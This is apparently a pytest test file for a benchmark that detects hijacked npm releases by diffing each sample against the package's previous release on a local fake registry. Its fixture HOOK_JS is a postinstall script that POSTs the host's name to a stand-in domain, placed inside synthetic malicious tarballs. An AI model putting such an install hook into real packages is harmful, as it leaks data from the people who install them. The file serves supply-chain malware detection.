"""bench/compromised.py on the registry tests' fake registry (127.0.0.1, never the live registries): which
samples are releases of a package with earlier releases (security placeholders, releases that are
themselves samples, and releases uploaded after the sample do not count), a reserved name is never
requested, the diff against the previous release, a previous release the registry no longer serves, and
a second run that redoes nothing."""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import json
import sys
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "intake"))
registry_tests: Any = importlib.import_module("test_registry")  # its FakeRegistry, on 127.0.0.1
fake = registry_tests.fake
isolated = registry_tests.isolated  # autouse: no user pip/npm configuration, HOME in tmp_path

REPO = Path(__file__).resolve().parent.parent
BENIGN_JS = "module.exports = function pad(s, n) { return String(s).padStart(n); };\n"
HOOK_JS = ("const https = require('https');\nconst os = require('os');\n"
           "https.request({hostname: 'example.invalid', path: '/' + os.hostname(), method: 'POST'}).end();\n")


@pytest.fixture(scope="module")
def bench(load_bench: Callable[[str], ModuleType]) -> ModuleType:
    return load_bench("compromised")


def npm_archive(name: str, version: str, files: dict[str, str], scripts: dict[str, str] | None = None,
                description: str = "pads strings") -> bytes:
    manifest: dict[str, Any] = {"name": name, "version": version, "main": "index.js", "description": description,
                                "author": "Ann Author"}
    if scripts:
        manifest["scripts"] = scripts
    members = {"package/package.json": json.dumps(manifest).encode()}
    members.update({f"package/{path}": text.encode() for path, text in files.items()})
    return bytes(registry_tests._tar_gz(members))


def serve(fake: Any, name: str, releases: dict[str, tuple[str, bytes | None]], extra_times: dict[str, str]) -> None:
    """`releases`: version -> (upload time, archive; None: listed but its tarball is gone)."""
    versions = {}
    for version, (_, data) in releases.items():
        path = f"/npm/{name}/-/{name}-{version}.tgz"
        body = data if data is not None else b"x"
        if data is not None:
            fake.routes[path] = registry_tests.Route(data)
        integrity = "sha512-" + base64.b64encode(hashlib.sha512(body).digest()).decode()
        description = "security holding package" if version.endswith("-security") else "pads strings"
        versions[version] = {"name": name, "version": version, "description": description,
                             "dist": {"tarball": fake.url + path, "integrity": integrity}}
    times = {v: t for v, (t, _) in releases.items()} | extra_times
    doc = {"name": name, "dist-tags": {"latest": list(releases)[-1]}, "versions": versions, "time": times}
    fake.routes[f"/npm/{name}"] = registry_tests.Route(json.dumps(doc).encode(), content_type="application/json")


def setup(tmp_path: Path, fake: Any) -> list[str]:
    benign = {"index.js": BENIGN_JS}
    # hijacked 1.0.2 (the sample) was unpublished: the registry still records its time
    serve(fake, "hijacked", {"1.0.0": ("2019-01-01T00:00:00Z", npm_archive("hijacked", "1.0.0", benign)),
                             "1.0.1": ("2020-01-01T00:00:00Z", npm_archive("hijacked", "1.0.1", benign))},
          {"1.0.2": "2021-06-01T00:00:00Z"})
    serve(fake, "squatted", {"0.0.1-security": ("2021-01-01T00:00:00Z", npm_archive("squatted", "0.0.1", {}))},
          {"1.0.0": "2020-12-01T00:00:00Z"})
    # reused: 1.0.0 comes after the sample 2.0.0 (the name was taken again)
    serve(fake, "reused", {"1.0.0": ("2025-01-01T00:00:00Z", npm_archive("reused", "1.0.0", benign))},
          {"2.0.0": "2020-01-01T00:00:00Z"})
    # both releases are samples: no benign original
    serve(fake, "twice", {"1.0.0": ("2020-01-01T00:00:00Z", npm_archive("twice", "1.0.0", benign)),
                          "1.1.0": ("2020-02-01T00:00:00Z", npm_archive("twice", "1.1.0", benign))}, {})
    serve(fake, "gone", {"1.0.0": ("2019-01-01T00:00:00Z", None)}, {"1.0.1": "2020-01-01T00:00:00Z"})
    serve(fake, "evilz", {"1.0.0": ("2019-01-01T00:00:00Z", npm_archive("evilz", "1.0.0", benign))}, {})

    datasets = tmp_path / "datasets"
    hook = {"postinstall": "node collect.js"}
    samples = [
        ("hijacked", "1.0.2", npm_archive("hijacked", "1.0.2", {**benign, "collect.js": HOOK_JS}, hook)),
        ("squatted", "1.0.0", npm_archive("squatted", "1.0.0", {"collect.js": HOOK_JS}, hook)),
        ("reused", "2.0.0", npm_archive("reused", "2.0.0", {"collect.js": HOOK_JS}, hook)),
        ("twice", "1.0.0", npm_archive("twice", "1.0.0", {"collect.js": HOOK_JS}, hook)),
        ("twice", "1.1.0", npm_archive("twice", "1.1.0", {"collect.js": HOOK_JS}, hook)),
        ("gone", "1.0.1", npm_archive("gone", "1.0.1", {"collect.js": HOOK_JS}, hook)),
        ("evilz", "2.0.0", npm_archive("evilz", "2.0.0", {"collect.js": HOOK_JS}, hook)),
        ("missingz", "1.0.0", npm_archive("missingz", "1.0.0", {"collect.js": HOOK_JS}, hook)),
    ]
    lines = ["path\tname\tversion\tsha256\tsource"]
    for name, version, data in samples:
        rel = f"{name}/{version}/{name}-{version}.tgz"
        (datasets / "malicious-npm" / rel).parent.mkdir(parents=True)
        (datasets / "malicious-npm" / rel).write_bytes(data)
        lines.append(f"{rel}\t{name}\t{version}\t{hashlib.sha256(data).hexdigest()}\ttest")
    (datasets / "malicious-npm" / "manifest.tsv").write_text("\n".join(lines) + "\n")
    (datasets / "malicious-pypi").mkdir()
    (datasets / "malicious-pypi" / "manifest.tsv").write_text("path\tname\tversion\tsha256\tadded\n")
    reserved = tmp_path / "reserved.sha256"
    reserved.write_text(hashlib.sha256(b"npm:evilz").hexdigest() + "\n")
    return ["--datasets", str(datasets), "--reserved", str(reserved), "--npm-registry", fake.npm_url,
            "--cache-dir", str(tmp_path / "cache")]


def test_find_then_measure(bench: ModuleType, fake: Any, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    common = setup(tmp_path, fake)
    found_path = tmp_path / "found.jsonl"
    assert bench.main(["find", *common, "--out", str(found_path), "--threads", "2", "--rate", "50"]) == 0
    assert not [p for p in fake.paths() if "evilz" in p]  # reserved: never asked
    found = {(r["name"], r["version"]): r for r in bench.read_rows(found_path)}
    assert ("evilz", "2.0.0") not in found
    hijacked = found[("hijacked", "1.0.2")]
    assert (hijacked["previous"], hijacked["earlier"], hijacked["sample_listed"]) == ("1.0.1", 2, False)
    assert hijacked["sample_time_from"] == "registry" and hijacked["days_after_previous"] == 517.0
    assert found[("squatted", "1.0.0")]["previous"] is None and found[("squatted", "1.0.0")]["placeholders"] == 1
    reused = found[("reused", "2.0.0")]
    assert (reused["previous"], reused["earlier_by_version"], reused["later"]) == (None, 1, 1)
    assert found[("twice", "1.1.0")]["previous"] is None and found[("twice", "1.1.0")]["in_manifests"] == 1
    assert found[("missingz", "1.0.0")]["registry"] == "not_found"
    assert found[("gone", "1.0.1")]["previous"] == "1.0.0"
    assert bench.find_summary(list(found.values()))["npm"]["with_earlier_release"] == 2

    out = tmp_path / "rows.jsonl"
    measure = ["measure", *common, "--found", str(found_path), "--out", str(out)]
    assert bench.main(measure) == 0
    rows = {r["name"]: r for r in bench.read_rows(out)}
    assert set(rows) == {"hijacked", "gone"}
    row = rows["hijacked"]
    assert row["served"] and "error" not in row and row["old"] == "npm:hijacked@1.0.1"
    assert row["hooks_added"] == ["npm_script added"] and row["added_behaviours"] > 0
    assert row["same_description"] and row["same_author"] and row["split"] == "none"
    assert row["new_verdict"] in ("benign", "malicious") and row["delta_score"] is not None
    assert not rows["gone"]["served"] and rows["gone"]["error"].startswith("previous: ")
    summary = bench.summary(list(rows.values()))["npm/all"]
    assert (summary["samples"], summary["served"], summary["diffed"]) == (2, 1, 1)

    # again: nothing is downloaded or diffed
    before = len(fake.paths())
    finished = out.read_text()
    assert bench.main(measure) == 0
    assert out.read_text() == finished and len(fake.paths()) == before
    capsys.readouterr()
